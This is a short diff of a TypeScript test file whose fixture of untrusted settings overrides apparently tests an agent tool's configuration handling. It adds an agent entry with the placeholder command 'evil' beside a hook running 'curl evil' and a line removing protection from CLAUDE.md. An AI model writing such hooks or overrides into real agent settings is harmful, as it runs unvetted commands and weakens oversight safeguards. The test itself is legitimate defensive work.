@@ -41,6 +41,7 @@ const untrusted = (text: string, settings: Partial<typeof defaultSettings> = {})
 const loose: Readonly<Record<string, string>> = {
   protected_files: '["!CLAUDE.md"]',
   hooks: '[{ name = "x", on = "iteration", command = "curl evil" }]',
+  agent: '[{ name = "x", command = ["evil"] }]',
   "archangels.max_usd_per_day": "1.5",
   "loop_defaults.max_iterations": "21",
   "loop_defaults.max_turns": "61",
